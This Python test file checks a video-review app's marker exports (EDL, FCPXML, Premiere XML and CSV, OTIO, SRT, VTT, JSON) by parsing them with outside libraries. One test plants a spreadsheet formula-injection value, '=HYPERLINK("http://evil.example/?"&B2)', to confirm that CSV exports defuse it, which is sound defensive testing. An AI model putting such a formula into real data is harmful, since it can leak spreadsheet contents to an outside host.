"""Every format is read back by a reader that is not ours, or by a strict grammar of the format.

Timecodes are turned into frames by the package `timecode`, not by the code that wrote them.
"""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import timedelta
from fractions import Fraction
from xml.etree import ElementTree as ET

import pycmx
import pytest
import srt
import webvtt
from timecode import Timecode

from integrations.exports.text import COLORS, filename, one_line
from integrations.exports.timeline import Marker, Timeline
from tests.integrations.markers import (
    RATES,
    random_markers,
    rates_of,
    timeline_at,
    written,
    written_several,
)

COUNT = 1000
OTIO_ONLY = "OpenTimelineIO has no wheel for this Python or machine yet"


def cases(name: str) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("rate", rates_of(name))


def frame_of(timeline: Timeline, text: str) -> int:
    """Return the frame of a timecode, counted from the timeline's start, by another library."""
    frames = timeline.counted
    rounded = {24: "23.976", 30: "29.97", 60: "59.94"}
    rate = str(frames.rate) if frames.rate.denominator == 1 else rounded[frames.numbers]

    def count(timecode: str) -> int:
        parsed = Timecode(rate, timecode, force_non_drop_frame=not frames.drop)
        return parsed.frame_number

    return count(text) - count(frames.timecode(0))


def made(rate: str, count: int = COUNT) -> tuple[Timeline, list[Marker]]:
    timeline = timeline_at(rate)
    return timeline, random_markers(timeline, count)


EVENT = re.compile(r"(\d{3})  001      V     C        (\S{11}) (\S{11}) (\S{11}) (\S{11})")
RESOLVE = re.compile(r"(\[[^|]+) \|C:ResolveColor(Red|Yellow|Green|Blue) \|M:([^|]+) \|D:(\d+)")


@cases("edl_resolve")
def test_resolve_edl(rate):
    timeline, markers = made(rate, 999)
    text = written("edl_resolve", timeline, markers)
    head, *events, end = text.split("\n\n")
    assert end == ""
    assert head.splitlines()[1] == (
        "FCM: DROP FRAME" if timeline.counted.drop else "FCM: NON-DROP FRAME"
    )
    assert len(events) == len(markers)
    for number, (event, marker) in enumerate(zip(events, markers, strict=True), start=1):
        first, second = event.split("\n")
        place = EVENT.fullmatch(first)
        said = RESOLVE.fullmatch(second)
        assert place, first
        assert said, second
        assert int(place[1]) == number
        assert place[2] == place[4]
        assert frame_of(timeline, place[2]) == marker.start
        assert frame_of(timeline, place[3]) == marker.start + 1
        assert int(said[4]) == marker.length
        assert said[2].lower() == COLORS[marker.status]
    parsed = pycmx.parse_cmx3600(io.StringIO(text))
    assert [edit.source_in for event in parsed.events for edit in event.edits] == [
        timeline.counted.timecode(marker.start) for marker in markers
    ]


@cases("edl_resolve")
def test_resolve_has_one_marker_for_feedback_on_the_same_frame(rate):
    timeline, markers = made(rate, 20)
    text = written("edl_resolve", timeline, [markers[0], *markers])
    assert len(re.findall(r"\|C:", text)) == len(markers)


@cases("edl_avid")
def test_avid_edl(rate):
    timeline, markers = made(rate)
    text = written("edl_avid", timeline, markers)
    parsed = list(pycmx.parse_cmx3600(io.StringIO(text)).events)
    assert len(parsed) == 1
    assert frame_of(timeline, parsed[0].edits[0].source_in) == 0
    lines = [line for line in text.splitlines() if line.startswith("* LOC:")]
    assert len(lines) == len(markers)
    for line, marker in zip(lines, markers, strict=True):
        said = re.fullmatch(r"\* LOC: (\S{11}) (RED|YELLOW|GREEN|BLUE) +(\[.+)", line)
        assert said, line
        assert frame_of(timeline, said[1]) == marker.start
        assert said[2].lower() == COLORS[marker.status]


# OpenTimelineIO's adapter reads no locator with drop-frame timecode.
@pytest.mark.parametrize(
    "rate", [rate for rate in rates_of("edl_avid") if ";" not in RATES[rate][1]]
)
def test_avid_edl_in_opentimelineio(rate):
    otio = pytest.importorskip("opentimelineio", reason=OTIO_ONLY)
    timeline, markers = made(rate)
    if timeline.counted.drop:
        timeline = replace(timeline, frames=replace(timeline.counted, drop=False))
    text = written("edl_avid", timeline, markers)
    read = otio.adapters.read_from_string(text, "cmx_3600", rate=float(timeline.counted.rate))
    (clip,) = read.find_clips()
    start = timeline.counted.start
    assert [m.marked_range.start_time.value - start for m in clip.markers] == [
        m.start for m in markers
    ]
    assert [m.color.lower() for m in clip.markers] == [COLORS[m.status] for m in markers]


@cases("avid_markers")
def test_avid_markers(rate):
    timeline, markers = made(rate)
    lines = written("avid_markers", timeline, markers).splitlines()
    assert len(lines) == len(markers)
    for line, marker in zip(lines, markers, strict=True):
        author, timecode, track, color, comment, length = line.split("\t")
        assert author
        assert frame_of(timeline, timecode) == marker.start
        assert (track, color, int(length)) == ("V1", COLORS[marker.status], marker.length)
        assert comment.startswith("[")


def seconds(text: str) -> Fraction:
    assert re.fullmatch(r"\d+(/\d+)?s", text), text
    return Fraction(text[:-1])


@cases("fcpxml")
def test_fcpxml(rate):
    timeline, markers = made(rate)
    text = written("fcpxml", timeline, markers)
    root = ET.fromstring(text)
    # The part of Apple's grammar that is used: which element stands in which, and its attributes.
    assert (root.tag, root.attrib) == ("fcpxml", {"version": "1.11"})
    resources, event = root
    (shape,) = resources
    assert (shape.tag, set(shape.attrib)) == ("format", {"id", "frameDuration", "width", "height"})
    (project,) = event
    (sequence,) = project
    (spine,) = sequence
    (gap,) = spine
    tags = [each.tag for each in (resources, event, project, sequence, spine, gap)]
    assert tags == ["resources", "event", "project", "sequence", "spine", "gap"]
    assert sequence.attrib["format"] == shape.attrib["id"]
    assert sequence.attrib["tcFormat"] == ("DF" if timeline.counted.drop else "NDF")
    frame = seconds(shape.attrib["frameDuration"])
    begin = seconds(gap.attrib["start"])
    assert begin == seconds(sequence.attrib["tcStart"]) == seconds(gap.attrib["offset"])
    assert begin / frame == timeline.counted.start
    assert len(gap) == len(markers)
    for element, marker in zip(gap, markers, strict=True):
        assert element.tag == "marker"
        assert set(element.attrib) == {"start", "duration", "value", "completed", "note"}
        assert (seconds(element.attrib["start"]) - begin) / frame == marker.start
        assert seconds(element.attrib["duration"]) / frame == marker.length
        done = marker.status in ("resolved", "closed")
        assert element.attrib["completed"] == str(int(done))
        if marker.content.startswith("색이"):
            assert "색이 너무 어두워요.\n밝게" in element.attrib["note"]


@cases("premiere_xml")
def test_premiere_xml(rate):
    otio = pytest.importorskip("opentimelineio", reason=OTIO_ONLY)
    timeline, markers = made(rate)
    text = written("premiere_xml", timeline, markers)
    sequence = ET.fromstring(text).find("project/children/sequence")
    assert sequence is not None
    assert int(sequence.findtext("timecode/frame", "")) == timeline.counted.start
    elements = sequence.findall("marker")
    assert len(elements) == len(markers)
    for element, marker in zip(elements, markers, strict=True):
        out = int(element.findtext("out", ""))
        assert int(element.findtext("in", "")) == marker.start
        expected = -1 if marker.end_frame is None else marker.end_frame + 1
        assert out == expected
        assert element.findtext("comment", "").startswith("[")
    single = text.replace("<project>", "").replace("</children></project>", "")
    single = re.sub(r"<name>[^<]*</name><children>\n", "", single, count=1)
    (read,) = [otio.adapters.read_from_string(single, "fcp_xml")]
    assert [marker.marked_range.start_time.value for marker in read.tracks.markers] == [
        marker.start for marker in markers
    ]


@cases("premiere_csv")
def test_premiere_csv(rate):
    timeline, markers = made(rate)
    text = written("premiere_csv", timeline, markers)
    assert text[0] == "\ufeff"
    head, *rows = csv.reader(io.StringIO(text[1:], newline=""), delimiter="\t")
    assert head == ["Marker Name", "Description", "In", "Out", "Duration", "Marker Type"]
    assert len(rows) == len(markers)
    for (_, description, start, out, _, kind), marker in zip(rows, markers, strict=True):
        assert frame_of(timeline, start) == marker.start
        length = 0 if marker.end_frame is None else marker.length
        assert frame_of(timeline, out) == marker.start + length
        assert kind == "Comment"
        assert description.startswith("[")


@cases("otio")
def test_otio(rate):
    otio = pytest.importorskip("opentimelineio", reason=OTIO_ONLY)
    timeline, markers = made(rate)
    read = otio.adapters.read_from_string(written("otio", timeline, markers), "otio_json")
    (clip,) = read.find_clips()
    start = clip.source_range.start_time
    assert start.value == read.global_start_time.value == timeline.counted.start
    drop = timeline.counted.drop
    assert otio.opentime.to_timecode(start, start.rate, drop) == timeline.counted.timecode(0)
    assert len(clip.markers) == len(markers)
    for found, marker in zip(clip.markers, markers, strict=True):
        assert found.marked_range.start_time.value - start.value == marker.start
        assert found.marked_range.duration.value == marker.length
        assert found.color.lower() == COLORS[marker.status]
        assert found.metadata["videoplanet"]["content"] == marker.content
        assert found.metadata["videoplanet"]["author"] == marker.author


def test_otio_of_several_videos_is_a_collection():
    otio = pytest.importorskip("opentimelineio", reason=OTIO_ONLY)
    pairs = [made("25", 5), made("59.94 drop", 7)]
    read = otio.adapters.read_from_string(written_several("otio", pairs), "otio_json")
    assert [len(next(iter(each.find_clips())).markers) for each in read] == [5, 7]


def test_xml_of_several_videos_has_a_sequence_for_each():
    pairs = [made("25", 5), made("59.94 drop", 7)]
    document = ET.fromstring(written_several("fcpxml", pairs))
    assert [len(gap) for gap in document.iter("gap")] == [5, 7]
    assert [each.attrib["frameDuration"] for each in document.iter("format")] == [
        "1/25s",
        "1001/60000s",
    ]
    document = ET.fromstring(written_several("premiere_xml", pairs))
    assert [len(each.findall("marker")) for each in document.iter("sequence")] == [5, 7]


@cases("csv")
def test_csv(rate):
    timeline, markers = made(rate)
    text = written("csv", timeline, markers)
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == len(markers)
    for row, marker in zip(rows, markers, strict=True):
        assert int(row["frame"]) == frame_of(timeline, row["timecode"]) == marker.start
        if marker.end_frame is not None:
            assert int(row["end_frame"]) == marker.end_frame
            assert frame_of(timeline, row["end_timecode"]) == marker.end_frame
        assert not row["content"].startswith(("=", "+", "-", "@"))


@cases("json")
def test_json(rate):
    timeline, markers = made(rate)
    (video,) = json.loads(written("json", timeline, markers))["videos"]
    assert [
        (row["frame"], row["end_frame"], row["content"], len(row["comments"]))
        for row in video["feedbacks"]
    ] == [(m.frame, m.end_frame, m.content, len(m.replies)) for m in markers]


def check_cues(timeline: Timeline, markers: list[Marker], cues: list[tuple[Fraction, Fraction]]):
    assert len(cues) == len(markers)
    for (start, end), marker in zip(cues, markers, strict=True):
        assert int(start * timeline.counted.rate) == marker.start
        assert end - start >= 2
        if marker.length > 3 * timeline.counted.rate:
            assert int(end * timeline.counted.rate) == marker.start + marker.length


@cases("srt")
def test_srt(rate):
    timeline, markers = made(rate)
    cues = list(srt.parse(written("srt", timeline, markers)))
    unit = timedelta(milliseconds=1)
    times = [(Fraction(cue.start // unit, 1000), Fraction(cue.end // unit, 1000)) for cue in cues]
    check_cues(timeline, markers, times)
    assert all(cue.content.startswith("[") for cue in cues)


@cases("vtt")
def test_vtt(rate):
    timeline, markers = made(rate)
    text = written("vtt", timeline, markers)
    cues = webvtt.from_string(text).captions
    times = [
        (Fraction(str(cue.start_in_seconds)), Fraction(str(cue.end_in_seconds))) for cue in cues
    ]
    if times and times[0][0].denominator == 1:  # the library leaves milliseconds out
        times = [(clock(cue.start), clock(cue.end)) for cue in cues]
    check_cues(timeline, markers, times)
    assert [cue.identifier for cue in cues] == [str(marker.id) for marker in markers]


def clock(text: str) -> Fraction:
    hours, minutes, rest = text.split(":")
    return int(hours) * 3600 + int(minutes) * 60 + Fraction(rest)


@pytest.mark.parametrize("name", ["csv", "premiere_csv"])
def test_a_spreadsheet_calculates_nothing(name):
    timeline = timeline_at("25")
    [marker] = random_markers(timeline, 1)
    marker = replace(marker, author='=HYPERLINK("http://evil.example/?"&B2)', content="A1")
    delimiter = "\t" if name == "premiere_csv" else ","
    text = written(name, timeline, [marker]).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith("=")] == []


def test_a_text_of_spaces_takes_no_longer_than_another():
    # In quadratic time this takes hours.
    assert one_line("a" + " " * 2_000_000 + "b\n \n\nc ").endswith("b / c")


@pytest.mark.parametrize(("name", "expected"), [("aux", "_aux.csv"), ("Con.1", "_Con.1.csv")])
def test_no_file_is_named_as_a_device(name, expected):
    assert filename(name, "csv") == expected
